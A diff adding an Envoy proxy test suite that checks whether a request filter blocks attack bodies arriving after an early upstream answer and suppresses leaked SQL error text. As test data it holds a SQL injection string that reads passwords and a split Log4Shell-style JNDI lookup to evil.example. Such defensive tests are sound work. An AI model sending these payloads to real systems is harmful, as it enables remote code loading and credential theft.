@@ -1,0 +1,101 @@
+// Through the real Envoy: a service that answers before the request's end. What comes of the request afterwards is inspected as
+// if nothing had been answered, and the answer as if the request had ended.
+
+import assert from 'node:assert/strict';
+import { after, before, describe, it } from 'node:test';
+import type { Answer } from '../../demo/stack/answer.ts';
+import type { Arrival, HeaderPairs } from '../../demo/stack/arrivals.ts';
+import type { Request } from '../../demo/stack/client.ts';
+import { Front, harmlessBody, protocols } from '../support/exchange-front.ts';
+import { until } from '../support/until.ts';
+
+const attack = "1' union select password from users-- -";
+const leak = 'You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version';
+const types = ['text/plain', 'application/x-www-form-urlencoded', 'x/odd'];
+
+interface Plan {
+  /** What the service says as soon as it has the head. */
+  readonly answer: string;
+  readonly type?: string;
+  /** The pieces of the body; each is sent when the service has answered and has what went before. */
+  readonly pieces: readonly string[];
+  /** The body goes on for ever. */
+  readonly isOpen?: boolean;
+  readonly more?: HeaderPairs;
+}
+
+let count = 0;
+
+function exchange(front: Front, plan: Plan, protocol: 'http1' | 'http2') {
+  count += 1;
+  const id = `early-${count}`;
+  const arrival = (): Arrival | undefined => front.upstream.arrivals.find(id);
+  async function* body(): AsyncGenerator<Uint8Array> {
+    await until('the service has the head', () => arrival() !== undefined);
+    for (const piece of plan.pieces) yield Buffer.from(piece, 'latin1');
+    if (plan.isOpen === true) await new Promise(() => {});
+  }
+  const headers: HeaderPairs = [
+    ['x-exchange', id],
+    ['content-type', plan.type ?? 'text/plain'],
+    ['x-answer', Buffer.from(plan.answer).toString('base64')],
+    // Announced trailers: the head is held for a short time only.
+    ['trailer', 'x-sum'],
+    ...(plan.more ?? []),
+  ];
+  const request: Request = { method: 'POST', path: '/early', headers, body: body(), sendsOn: true };
+  return front.exchange(request, { protocol });
+}
+
+/** The exchange was stopped: an answer of ours, or no end of the service's. */
+const isStopped = ({ status, end }: Answer): boolean => status === 403 || end === 'cut';
+
+for (const mode of ['streamed', 'streamed-wait', 'full-duplex'] as const) {
+  describe(`a service that answers early, ${mode}`, () => {
+    let front: Front;
+    before(async () => {
+      front = await Front.start({ mode });
+    });
+    after(() => front.stop());
+
+    for (const protocol of protocols) {
+      it(`does not get an attack that comes after its answer (${protocol})`, async () => {
+        for (const type of types) {
+          const text = type.endsWith('urlencoded') ? `q=${encodeURIComponent(attack)}` : attack;
+          for (const isOpen of [true, false]) {
+            const plan = { answer: 'begun', type, pieces: [text], isOpen };
+            const { answer, arrival } = await exchange(front, plan, protocol);
+            assert.ok(isStopped(answer), `${type}: ${answer.status} ${answer.end}`);
+            assert.equal(arrival?.bodyBytes, 0, type);
+          }
+        }
+      });
+
+      it(`does not get an attack in two halves, one before and one after more of the answer (${protocol})`, async () => {
+        const plan = { answer: 'j', pieces: ['\x24{jn', 'di:ldap://evil.example/a}'], isOpen: true };
+        const { answer, arrival } = await exchange(front, plan, protocol);
+        assert.ok(isStopped(answer));
+        assert.ok((arrival?.bodyBytes ?? 0) <= 5, `${arrival?.bodyBytes}`);
+      });
+
+      it(`has its leak stopped while the request is open (${protocol})`, async () => {
+        for (const ends of [[], [['x-answer-ends', '1']]] satisfies HeaderPairs[]) {
+          const { answer } = await exchange(
+            front,
+            { answer: leak, pieces: ['abc'], isOpen: true, more: ends },
+            protocol,
+          );
+          assert.ok(isStopped(answer), `${answer.status} ${answer.end}`);
+          assert.ok(!answer.body.includes('SQL syntax'), answer.body);
+        }
+      });
+
+      it(`may show SQL while a harmless request is open (${protocol})`, async () => {
+        const pieces = [harmlessBody(1000).toString('latin1'), 'the end'];
+        const { answer, arrival } = await exchange(front, { answer: `<pre>${attack}</pre>`, pieces }, protocol);
+        assert.deepEqual([answer.status, answer.end, arrival?.bodyBytes], [200, 'complete', 1007]);
+        assert.ok(answer.body.includes(attack));
+      });
+    }
+  });
+}
